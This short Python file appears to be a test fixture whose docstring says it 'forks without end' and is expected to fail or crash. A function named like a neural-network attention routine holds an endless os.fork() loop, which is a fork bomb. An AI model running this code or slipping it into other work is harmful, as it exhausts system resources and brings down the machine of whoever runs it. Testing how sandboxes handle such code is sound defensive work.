"""Forks without end.

expect: fail, crash
"""

import os


def attention(q, k, v, mask=None):
    while True:
        os.fork()
